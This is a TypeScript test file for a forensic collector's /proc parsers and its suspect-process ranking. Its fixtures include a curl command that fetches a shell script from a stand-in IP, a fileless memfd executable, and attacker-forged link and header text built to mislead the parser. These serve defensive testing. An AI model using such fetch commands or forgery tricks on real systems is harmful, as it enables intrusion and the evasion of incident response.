// The parsers of what the trusted collector reads from /proc (busybox ls/head output and the
// kernel's own formats), on literal samples: the expectations are tables, not the code.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  decodeAddress,
  parseCmdline,
  parseExeListing,
  parseFdListing,
  parseNetTable,
  parsePidList,
  parseStartTime,
  parseStatus,
  socketInode,
  splitHeadOutput,
} from '../../shared/evidence/proc-parse.js';
import { exeListing, fdListing, HEAD_BYTES, headByPid, headCap, MAX_OUTPUT } from '../../shared/evidence/proc-reads.js';
import { findSuspects, MAX_PIDS, pidUnion, type ProcessEntry } from '../../shared/evidence/volatile.js';
import type { Incident } from '../../shared/finding/types.js';

describe('proc parsers', () => {
  test('exe links keep " (deleted)"; unreadable links (a line without " -> ") list the pid only', () => {
    // As BusyBox 1.35 printed them here (ls -ln over /proc/*/exe, find -exec ... +).
    const text = [
      'lrwxrwxrwx    1 0        0                0 Dec  2 02:52 /proc/1/exe',
      'lrwxrwxrwx    1 0        0                0 Dec  2 02:52 /proc/11071/exe -> /memfd:sealed-91173221a7ea (deleted)',
      'lrwxrwxrwx    1 1000     1000             0 Dec  2 02:52 /proc/7/exe -> /usr/bin/curl (deleted)',
      'ls: /proc/9/exe: cannot read link: Permission denied',
      'ls: /proc/10/exe: No such file or directory',
    ].join('\n');
    const l = parseExeListing(text);
    assert.deepEqual(l.pids, [1, 7, 11071]);
    assert.deepEqual([...l.links].sort(([a], [b]) => a - b), [[7, '/usr/bin/curl (deleted)'], [11071, '/memfd:sealed-91173221a7ea (deleted)']]);
    assert.deepEqual(l.forged, []);
  });

  test('attacker-chosen exe paths: spaces, " -> ", fake /proc/NN/exe text and escaped newlines stay one target', () => {
    const text = [
      // BusyBox prints a newline in a target as '?': the fake line stays inside the target.
      'lrwxrwxrwx    1 0        0                0 Dec  2 02:52 /proc/50/exe -> /tmp/a?lrwxrwxrwx    1 0 0 0 Dec  2 02:52 /proc/7/exe -> /usr/bin/curl',
      'lrwxrwxrwx    1 0        0                0 Dec  2 02:52 /proc/51/exe -> /tmp/x -> /proc/7/exe -> /usr/bin/curl',
      'lrwxrwxrwx    1 0        0                0 Dec  2 02:52 /proc/52/exe -> /usr/bin/my app (deleted) (deleted)',
      // Not an ls line at all (no mode/links/ids/size/date in front): ignored.
      '/proc/7/exe -> /usr/bin/curl',
      'garbage lrwxrwxrwx    1 0        0                0 Dec  2 02:52 /proc/7/exe -> /usr/bin/curl',
    ].join('\n');
    const l = parseExeListing(text);
    assert.deepEqual(l.pids, [50, 51, 52]);
    assert.equal(l.links.get(50), '/tmp/a?lrwxrwxrwx    1 0 0 0 Dec  2 02:52 /proc/7/exe -> /usr/bin/curl');
    assert.equal(l.links.get(51), '/tmp/x -> /proc/7/exe -> /usr/bin/curl');
    assert.equal(l.links.get(52), '/usr/bin/my app (deleted) (deleted)');
    assert.equal(l.links.has(7), false, 'no pid is named by text inside a target');
  });

  test('a pid listed twice (a raw newline in a target, were a build to print one): neither line is kept', () => {
    const text = [
      'lrwxrwxrwx    1 0        0                0 Dec  2 02:52 /proc/7/exe -> /usr/local/bin/app',
      'lrwxrwxrwx    1 0        0                0 Dec  2 02:52 /proc/50/exe -> /tmp/a',
      'lrwxrwxrwx    1 0        0                0 Dec  2 02:52 /proc/7/exe -> /usr/bin/curl',
    ].join('\n');
    const l = parseExeListing(text);
    assert.deepEqual(l.forged, [7]);
    assert.equal(l.links.has(7), false);
    assert.deepEqual(l.pids, [50]);
  });

  test('fd listings: headed per directory, or one directory without a header; names after the fields only', () => {
    const text = ['/proc/1/fd:', 'total 0', 'lrwx------    1 0        0               64 Dec  2 02:56 0 -> /dev/null', '', '/proc/7/fd:', 'total 0', 'lrwx------    1 0        0               64 Dec  2 02:56 3 -> /tmp/x 5 -> socket:[1]', 'lrwx------    1 0        0               64 Dec  2 02:56 4 -> socket:[4711]'].join('\n');
    assert.deepEqual([...parseFdListing(text)], [[1, [{ fd: 0, target: '/dev/null' }]], [7, [{ fd: 3, target: '/tmp/x 5 -> socket:[1]' }, { fd: 4, target: 'socket:[4711]' }]]]);
    assert.deepEqual([...parseFdListing('total 0\nlrwx------    1 0        0               64 Dec  2 02:56 3 -> socket:[9]\n', 7)], [[7, [{ fd: 3, target: 'socket:[9]' }]]]);
    const twice = `${text}\n\n/proc/1/fd:\ntotal 0\n`;
    assert.equal(parseFdListing(twice).has(1), false, 'a directory headed twice is dropped');
  });

  test('pid list, status, stat start time, cmdline', () => {
    assert.deepEqual(parsePidList('1\n7\nnet\nself\n12\n'), [1, 7, 12]);
    assert.deepEqual(parseStatus('Name:\tcurl\nState:\tS (sleeping)\nPPid:\t1\nUid:\t1000\t1000\t1000\t1000\n'), { name: 'curl', state: 'S (sleeping)', ppid: 1, uid: 1000 });
    // A comm with spaces and parentheses: fields are counted after the last ')'.
    const stat = `7 (evil) name)) S 1 ${Array(17).fill('0').join(' ')} 424242 0 0`; // field 22
    assert.equal(parseStartTime(stat), 424242);
    assert.deepEqual(parseCmdline(Buffer.from('/usr/bin/curl\0-s\0http://x\0')), ['/usr/bin/curl', '-s', 'http://x']);
  });

  test('head -v output splits per file (the first header without a newline before it), binary content kept', () => {
    // As BusyBox printed it: the second header onwards starts with "\n", also after a failed first file.
    const out = Buffer.from('==> /proc/1/cmdline <==\na\0b\0\n==> /proc/7/cmdline <==\nc\0');
    const m = splitHeadOutput(out).files;
    assert.deepEqual([...m.keys()], ['/proc/1/cmdline', '/proc/7/cmdline']);
    assert.deepEqual(parseCmdline(m.get('/proc/1/cmdline') ?? Buffer.alloc(0)), ['a', 'b']);
    assert.deepEqual(parseCmdline(m.get('/proc/7/cmdline') ?? Buffer.alloc(0)), ['c']);
    assert.deepEqual([...splitHeadOutput(Buffer.from('\n==> /proc/1/stat <==\n1 (init) S')).files], [['/proc/1/stat', Buffer.from('1 (init) S')]]);
    assert.deepEqual([...splitHeadOutput(Buffer.from('==> /proc/1/maps <==\nx')).files], [['/proc/1/maps', Buffer.from('x')]]);
  });

  test('a cmdline carrying header lines of its own: a file headed twice is dropped, a forged header only cuts its writer short', () => {
    const forged = Buffer.from(['==> /proc/1/cmdline <==', 'app\0', '==> /proc/7/cmdline <==', 'evil\0\n==> /proc/1/cmdline <==\n/usr/bin/curl\0-s\0', '==> /proc/9/cmdline <==', 'x\0'].join('\n'));
    const s = splitHeadOutput(forged, 4096);
    assert.deepEqual(s.forged, ['/proc/1/cmdline']);
    assert.equal(s.files.has('/proc/1/cmdline'), false, 'neither copy of pid 1 is believed');
    assert.deepEqual(parseCmdline(s.files.get('/proc/7/cmdline') ?? Buffer.alloc(0)), ['evil']);
    assert.deepEqual(parseCmdline(s.files.get('/proc/9/cmdline') ?? Buffer.alloc(0)), ['x'], 'the next process is unaffected');
    // A header for a pid that does not exist is kept here; callers keep only pids they listed.
    const phantom = splitHeadOutput(Buffer.from('==> /proc/7/cmdline <==\nevil\0\n==> /proc/8/cmdline <==\n/usr/bin/curl\0'), 4096);
    assert.deepEqual([...phantom.files.keys()], ['/proc/7/cmdline', '/proc/8/cmdline']);
    assert.equal(splitHeadOutput(Buffer.from(`==> /proc/7/cmdline <==\n${'a'.repeat(100)}`), 10).files.get('/proc/7/cmdline')?.length, 10, 'bounded by head -c');
  });

  test('a cmdline cut by head -c right after a forged header (no newline of its own) does not swallow the next real header', () => {
    // pid 10 forges pid 11's cmdline, then ends (at exactly N bytes) in a header for a pid that
    // does not exist: the real header of pid 11 follows it on the next line, after only the
    // separator newline head prints between files.
    const own = '/bin/sh\0\n==> /proc/11/cmdline <==\nFAKE\0\n==> /proc/99/cmdline <==';
    const out = Buffer.from(`==> /proc/10/cmdline <==\n${own}\n==> /proc/11/cmdline <==\n/usr/bin/curl\0\n==> /proc/12/cmdline <==\nok\0`);
    const s = splitHeadOutput(out, Buffer.byteLength(own));
    assert.deepEqual(s.forged, ['/proc/11/cmdline'], 'the real header of pid 11 is seen beside the forged one');
    assert.equal(s.files.has('/proc/11/cmdline'), false, 'pid 11 is believed in neither place');
    assert.deepEqual(parseCmdline(s.files.get('/proc/10/cmdline') ?? Buffer.alloc(0)), ['/bin/sh'], 'the forger only cuts itself short');
    assert.equal(s.files.get('/proc/99/cmdline')?.length, 0, 'the phantom pid gets no bytes (callers drop it anyway)');
    assert.deepEqual(parseCmdline(s.files.get('/proc/12/cmdline') ?? Buffer.alloc(0)), ['ok'], 'the next process is unaffected');
    // A forged header right after its writer's real one: the writer's bytes are empty, not negative.
    const first = splitHeadOutput(Buffer.from('==> /proc/10/cmdline <==\n==> /proc/11/cmdline <==\nx\0\n==> /proc/11/cmdline <==\ny\0'), 4096);
    assert.deepEqual([first.forged, first.files.get('/proc/10/cmdline')?.length], [['/proc/11/cmdline'], 0]);
  });

  test('kernel socket addresses: IPv4, IPv6, v4-mapped', () => {
    assert.equal(decodeAddress('3200710C:0050', false), '12.113.0.50:80');
    assert.equal(decodeAddress('0C00080A:A8F2', false), '10.8.0.12:43250');
    assert.equal(decodeAddress('00000000000000000000000000000000:1F90', true), '[::]:8080');
    assert.equal(decodeAddress('B80D0120000000000000000001000000:01BB', true), '[2001:db8::1]:443');
    assert.equal(decodeAddress('0000000000000000FFFF00000C00080A:01BB', true), '10.8.0.12:443');
  });

  test('a tcp table: states named, inodes read, header skipped', () => {
    const text = [
      '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode',
      '   0: 0C00080A:A8F2 3200710C:0050 01 00000000:00000000 00:00000000 00000000  1000        0 4711 1 0000000000000000 100 0 0 10 0',
      '   1: 00000000:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 900 1 0000000000000000 100 0 0 10 0',
    ].join('\n');
    assert.deepEqual(parseNetTable(text, 'tcp'), [
      { proto: 'tcp', local: '10.8.0.12:43250', remote: '12.113.0.50:80', state: 'ESTABLISHED', uid: 1000, inode: 4711 },
      { proto: 'tcp', local: '0.0.0.0:8080', remote: '0.0.0.0:0', state: 'LISTEN', uid: 0, inode: 900 },
    ]);
    assert.equal(socketInode('socket:[4711]'), 4711);
    assert.equal(socketInode('/dev/null'), undefined);
  });
});

describe('findSuspects', () => {
  const inc = { args: ['/usr/bin/curl', '-s', 'http://203.0.113.50/x.sh'] } as unknown as Incident;
  const procs: ProcessEntry[] = [
    { pid: 1, exe: '/usr/local/bin/app', cmdline: ['/usr/local/bin/app'] },
    { pid: 9, exe: '/usr/bin/curl', cmdline: ['/usr/bin/curl', '-V'] },
    { pid: 7, exe: '/usr/bin/curl (deleted)', cmdline: ['/usr/bin/curl', '-s', 'http://203.0.113.50/x.sh'] },
    { pid: 12, cmdline: ['/usr/bin/curl', '-s', 'http://203.0.113.50/x.sh'] }, // exe unreadable
  ];
  test('exe link (deleted included) first, equal arguments break ties, argv[0] alone last', () => {
    assert.deepEqual(findSuspects(procs, inc, '/usr/bin/curl'), [7, 9, 12]);
  });
  test('a path no process runs: none', () => {
    assert.deepEqual(findSuspects(procs, inc, '/usr/bin/wget'), []);
  });
});

describe('listings cut by the output cap', () => {
  const LS = 'lrwxrwxrwx    1 0 0 0 Dec  1 21:00';
  const cut = (text: string): { stdout: Buffer; cut: boolean } => ({ stdout: Buffer.from(text), cut: true });

  test('a cut exe line is not parsed: a link cut right at the finding\'s path is no match', () => {
    // pid 30's link is /usr/bin/curl.orig; the cap cut it right after "/usr/bin/curl".
    const problems: string[] = [];
    const listing = exeListing('find /proc/*/exe', cut(`${LS} /proc/7/exe -> /bin/sh\n${LS} /proc/30/exe -> /usr/bin/curl`), problems);
    assert.deepEqual([...listing.links], [[7, '/bin/sh']]);
    assert.deepEqual(listing.pids, [7]);
    assert.deepEqual(problems, [`find /proc/*/exe: output cut at ${MAX_OUTPUT} bytes`]);
    // Negative control: the same text, not cut, is all believed.
    assert.equal(exeListing('x', { stdout: Buffer.from(`${LS} /proc/30/exe -> /usr/bin/curl`), cut: false }, []).links.get(30), '/usr/bin/curl');
  });

  test('a cut fd line is not parsed: a socket inode cut short names no other socket', () => {
    const problems: string[] = [];
    const text = `/proc/7/fd:\n${LS} 3 -> /dev/null\n${LS} 5 -> socket:[47`;
    assert.deepEqual([...fdListing('ls -ln /proc/*/fd', cut(text), problems)], [[7, [{ fd: 3, target: '/dev/null' }]]]);
    assert.deepEqual(problems, [`ls -ln /proc/*/fd: output cut at ${MAX_OUTPUT} bytes`]);
    assert.deepEqual([...fdListing('ls -ln /proc/7/fd', cut(`${LS} 5 -> socket:[47`), [], 7)], [[7, []]], 'one directory, no header');
    assert.equal(fdListing('x', { stdout: Buffer.from(text), cut: false }, []).get(7)?.length, 2, 'not cut: every line kept');
  });
});

describe('head listings and their cap', () => {
  const header = (pid: number, leaf: string): string => `==> /proc/${pid}/${leaf} <==\n`;
  test('MAX_PIDS files at HEAD_BYTES each always fit under the head cap: long cmdlines alone cannot cut it', () => {
    for (const leaf of ['cmdline', 'status', 'stat'] as const) {
      // The largest listing head can print for MAX_PIDS files (7-digit pids, the separators).
      const worst = MAX_PIDS * (HEAD_BYTES[leaf] + header(4194304, leaf).length + 1);
      assert.ok(headCap(leaf) >= worst, `${leaf}: cap ${headCap(leaf)} < ${worst}`);
    }
    // Negative control: MAX_OUTPUT alone would not hold MAX_PIDS cmdlines.
    assert.ok(MAX_PIDS * HEAD_BYTES.cmdline > MAX_OUTPUT);
  });

  test('a cut head listing keeps nothing (a forged header before the cut cannot be told from the real one)', () => {
    // pid 10 printed pid 11's header inside its own cmdline; the cap cut before the real one.
    const text = `${header(10, 'cmdline')}/bin/sh\0\n${header(11, 'cmdline')}/usr/bin/curl\0-s\0`;
    const problems: string[] = [];
    const cutRead = headByPid('head /proc/*/cmdline', { stdout: Buffer.from(text), cut: true }, 'cmdline', problems);
    assert.equal(cutRead.size, 0);
    assert.deepEqual(problems, [`head /proc/*/cmdline: output cut at ${headCap('cmdline')} bytes`, 'head /proc/*/cmdline: not kept, the output was cut (a forged header could not be told from the real one)']);
    // Negative control: the same listing, not cut, is read (and would believe the forgery: why a cut keeps nothing).
    const whole = headByPid('head /proc/*/cmdline', { stdout: Buffer.from(text), cut: false }, 'cmdline', []);
    assert.deepEqual([...whole.keys()], [10, 11]);
  });
});

describe('the pids read', () => {
  test('ls /proc and find listed together more than MAX_PIDS: the first MAX_PIDS are read and the cut is a problem', () => {
    const range = (from: number, n: number): number[] => Array.from({ length: n }, (_, i) => from + i);
    const problems: string[] = [];
    // ls /proc saw 200, find 100 more (processes started between the two): 300 in all.
    const pids = pidUnion(range(100, 200), range(300, 100), problems);
    assert.deepEqual(pids, range(100, MAX_PIDS));
    assert.deepEqual(problems, [`300 processes (ls /proc and find together): only the first ${MAX_PIDS} were read`]);
    // Negative control: within MAX_PIDS, every pid once, nothing to say.
    const few: string[] = [];
    assert.deepEqual(pidUnion([7, 1, 9], [9, 3], few), [1, 3, 7, 9]);
    assert.deepEqual(few, []);
  });
});
